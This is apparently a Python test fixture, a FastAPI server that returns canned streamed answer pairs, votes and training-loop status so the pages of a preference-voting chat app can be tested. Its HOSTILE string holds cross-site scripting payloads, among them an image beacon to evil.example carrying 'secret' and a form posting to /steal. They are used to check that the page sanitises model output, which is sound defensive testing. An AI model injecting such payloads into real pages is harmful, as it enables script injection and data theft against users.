"""A small server that keeps the HTTP contract of DESIGN with canned answers, for the pages' own tests.

It is steered by the question: `slow` streams until the test lets go, `break` fails in the middle, `long` is long, `hostile`
answers with an attack. Everything that it was sent is kept for the test to look at.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from fastapi import FastAPI, Request
from fastapi.responses import FileResponse, JSONResponse, Response, StreamingResponse
from fastapi.staticfiles import StaticFiles

WEB = Path(__file__).parents[2] / "serve" / "web"
CSP = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; connect-src 'self'; "
    "base-uri 'none'; form-action 'none'; frame-ancestors 'none'"
)
HOSTILE = """Hello <img src=x onerror="window.hacked = 1"> <script>window.hacked = 1</script>

<svg onload="window.hacked = 1"></svg><iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>

[click me](javascript:window.hacked=1) and [data](data:text/html,<script>window.hacked=1</script>) and [fine](https://example.org/)

![stolen](https://evil.example/?q=secret) <a href="javascript:window.hacked=1" onclick="window.hacked = 1">raw</a>

<style>body { display: none }</style>

| <img src=x onerror=window.hacked=1> | b |
|---|---|
| 1 | <form action="/steal"><input name=x></form> |
"""
ANSWER_A = """Sunlight is a mix of all colours. On its way through the air it meets molecules that are far smaller than its waves, and **short waves are scattered much more than long ones**.

- Blue light is scattered about *four times* as strongly as red.
- So blue reaches your eye from everywhere: the sky.
- At sunset the light crosses far more air. Most of the blue is gone by then, and red is what is left."""  # noqa: E501
ANSWER_B = """The sky is blue because of **Rayleigh scattering**: the strength goes with the inverse fourth power of the wavelength.

1. Blue has a wavelength of about 450 nm, red of about 700 nm.
2. The ratio is `(700 / 450) ** 4`, nearly six.

At sunset the path through the air is some forty times longer, so what arrives is mostly red."""

LOOP: dict[str, Any] = {
    "now": "2026-11-21T12:00:00Z",
    "base_model": "SmolLM2-135M-Instruct",
    "chat": {"conversations": 41, "pairs": 1212, "running": 2, "waiting": 0},
    "votes": {"total": 1090, "a": 480, "b": 474, "tie": 106, "both_bad": 30, "per_minute": 12.5},
    "outbox": {"pending": 0, "unconfirmed": 3, "oldest_pending_age_s": 0.0},
    "dataset": {"snapshot": "3fa9c01d77aa", "votes": 1087, "decisive": 951, "new": 23, "needed": 64},
    "training": {"phase": "ppo", "cycle": 4, "step": 4, "steps": 6, "progress": 0.66, "eta_s": 95, "message": "KL 6.2"},
    "office": {"adapter": "policy-000003", "since": "2026-11-21T11:41:00Z"},
    "releases": [
        {
            "name": f"policy-00000{number}",
            "state": state,
            "reason": reason,
            "actor": actor,
            "updated_at": f"2026-11-21T1{number}:00:00Z",
            "parent": f"policy-00000{number - 1}" if number > 1 else None,
            "metrics": {"reward": 0.2 * number, "kl": 3.0 + number, "win_rate": 0.5 + 0.03 * number},
        }
        for number, state, reason, actor in (
            (4, "canary", "probe passed; voters decide", "auto"),
            (3, "in_office", "won 63% of 118 votes", "auto"),
            (2, "retired", "followed by policy-000003", "auto"),
            (1, "rejected", "answers twice as long as the office-holder's", "operator"),
        )
    ],
    "cycles": [
        {"cycle": 1, "adapter": "policy-000001", "reward": 0.21, "kl": 9.1, "win_rate": 0.47, "finished_at": None},
        {"cycle": 2, "adapter": "policy-000002", "reward": 0.34, "kl": 6.4, "win_rate": 0.58, "finished_at": None},
        {"cycle": 3, "adapter": "policy-000003", "reward": 0.52, "kl": 7.2, "win_rate": 0.63, "finished_at": None},
    ],
}


@dataclass
class Canned:
    """What the server has seen, and how it shall behave."""

    delay_s: float = 0.0
    pairs: list[dict[str, Any]] = field(default_factory=list)
    votes: dict[str, dict[str, Any]] = field(default_factory=dict)
    acts: list[tuple[str, str | None]] = field(default_factory=list)
    refuse_pairs: int = 0
    refuse_votes: int = 0
    loop: dict[str, Any] = field(default_factory=dict)
    let_go: asyncio.Event = field(default_factory=asyncio.Event)
    left: int = 0
    """Streams that the client closed before their end."""


def problem(status: int, detail: str, headers: dict[str, str] | None = None) -> JSONResponse:
    """An RFC 9457 answer."""
    body = {"type": "about:blank", "title": "Problem", "status": status, "detail": detail}
    return JSONResponse(body, status, headers, media_type="application/problem+json")


def _event(name: str, data: dict[str, Any]) -> str:
    return f"event: {name}\ndata: {json.dumps(data)}\n\n"


def _answers(question: str) -> tuple[str, str]:
    if "hostile" in question:
        return HOSTILE, "Harmless."
    if "long" in question:
        return "\n\n".join(f"Paragraph {n}. " + "Many words follow. " * 20 for n in range(30)), ANSWER_B
    return ANSWER_A, ANSWER_B


async def _stream(state: Canned, pair_id: str, body: dict[str, Any]) -> AsyncIterator[str]:
    question = body["messages"][-1]["content"]
    conversation = body.get("conversation_id") or "c_1"
    sides = dict(zip("ab", _answers(question), strict=True))
    try:
        yield _event("pair", {"pair_id": pair_id, "conversation_id": conversation})
        for start in range(0, max(map(len, sides.values())), 12):
            for position, text in sides.items():
                if text[start : start + 12]:
                    yield _event("delta", {"position": position, "content": text[start : start + 12]})
            await asyncio.sleep(state.delay_s)
            if start > 48 and "break" in question:
                yield _event("error", {"title": "Engine lost", "status": 503, "detail": "The engine was lost."})
                return
            if start > 48 and "slow" in question:
                await state.let_go.wait()
    except asyncio.CancelledError:
        state.left += 1
        raise
    completions = [{"position": position, "finish_reason": "stop"} for position in sides]
    yield _event("done", {"pair_id": pair_id, "conversation_id": conversation, "completions": completions})


def make_app(state: Canned) -> FastAPI:
    """The server's routes over this state."""
    app = FastAPI()

    @app.middleware("http")
    async def _headers(request: Request, call_next: Any) -> Response:
        response: Response = await call_next(request)
        response.headers["Content-Security-Policy"] = CSP
        return response

    @app.post("/v1/pairs")
    async def _pairs(request: Request) -> Response:
        body = await request.json()
        if state.refuse_pairs:
            state.refuse_pairs -= 1
            return problem(503, "The model is still loading.", {"Retry-After": "1"})
        state.pairs.append(body)
        return StreamingResponse(_stream(state, f"p_{len(state.pairs)}", body), media_type="text/event-stream")

    @app.post("/v1/votes")
    async def _votes(request: Request) -> Response:
        body = await request.json()
        if state.refuse_votes:
            state.refuse_votes -= 1
            return problem(503, "The ledger is locked.")
        state.votes[body["pair_id"]] = body
        reveal = {"a": "policy-000002", "b": "base"}
        return JSONResponse({"vote_id": "v_1", "reveal": reveal}, 201)

    @app.get("/v1/loop")
    async def _loop() -> dict[str, Any]:
        return state.loop

    @app.post("/v1/releases/{act:path}")
    async def _act(act: str, request: Request) -> Response:
        if request.headers.get("Authorization") != "Bearer right":
            return problem(401, "The operator token is wrong.")
        state.acts.append((act, (await request.json()).get("reason")))
        return JSONResponse({})

    @app.get("/")
    async def _chat() -> Response:
        return FileResponse(WEB / "index.html")

    @app.get("/loop")
    async def _loop_page() -> Response:
        return FileResponse(WEB / "loop.html")

    app.mount("/web", StaticFiles(directory=WEB))
    return app
